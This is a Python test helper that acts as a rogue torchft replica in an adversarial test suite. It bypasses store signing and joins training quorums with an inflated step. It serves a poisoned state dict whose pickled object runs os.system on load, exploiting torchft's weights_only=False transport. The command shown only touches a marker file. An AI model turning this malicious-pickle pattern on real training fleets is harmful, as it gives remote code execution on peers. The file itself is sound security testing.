"""A rogue torchft replica with no keys, for test_adversary.py: it reads the lighthouse's
address from the coordinator's store, joins the fleet's quorums claiming a step far ahead,
and offers as its state a poisoned model whose unpickling would run a command (torchft's
own HTTP transport loads a peer's state with `weights_only=False`).

usage: python rogue_replica.py PORT STEP SECONDS MARKER
Prints the most replicas it saw in one quorum (2 or more: it was in the fleet's quorums).
"""

from __future__ import annotations

import os
import sys
import time
from datetime import timedelta
from typing import Any

import torch
from torch.distributed import TCPStore
from torchft import Manager
from torchft.process_group import ProcessGroupGloo

from edgeddl.runtime.fleet.signed_store import unchecked
from edgeddl.runtime.fleet.store import KEY_LIGHTHOUSE


class Payload:
    """Unpickled, it creates the marker file (a stand-in for any command)."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (f"touch {self.marker}",))


class _QuorumsSeen:
    """The Manager's client to its own manager server, counting the replicas of each
    quorum the lighthouse gave it."""

    def __init__(self, client: Any) -> None:
        self.client, self.most = client, 0

    def _quorum(self, *args: Any, **kwargs: Any) -> Any:
        quorum = self.client._quorum(*args, **kwargs)
        self.most = max(self.most, len(quorum.replica_ids))
        return quorum

    def __getattr__(self, name: str) -> Any:
        return getattr(self.client, name)


def main(port: int, step: int, seconds: float, marker: str) -> None:
    store = TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=30))
    lighthouse = unchecked(store.get(KEY_LIGHTHOUSE)).decode()
    own = TCPStore("127.0.0.1", 0, is_master=True, wait_for_workers=False)
    poison = {"model": torch.full((4,), float("nan")), "run": Payload(marker)}
    timeout = timedelta(seconds=2)
    manager = Manager(
        pg=ProcessGroupGloo(timeout),
        load_state_dict=lambda _: None,
        state_dict=lambda: poison,
        min_replica_size=1,
        replica_id="rogue",
        lighthouse_addr=lighthouse,
        store_addr="127.0.0.1",
        store_port=own.port,
        rank=0,
        world_size=1,
        hostname="127.0.0.1",
        timeout=timeout,
        quorum_timeout=timedelta(seconds=10),
        connect_timeout=timedelta(seconds=10),
    )
    seen = _QuorumsSeen(manager._client)
    manager._client = seen
    manager.load_state_dict({"step": step, "batches_committed": 0})
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            manager.start_quorum()
            manager.wait_quorum()
            manager.should_commit()
            manager.load_state_dict({"step": step, "batches_committed": 0})  # stay ahead
        except Exception:  # a rogue carries on whatever fails
            time.sleep(0.1)
    print(seen.most, flush=True)
    os._exit(0)  # not torchft's shutdown: a rogue just goes


if __name__ == "__main__":
    main(int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3]), sys.argv[4])
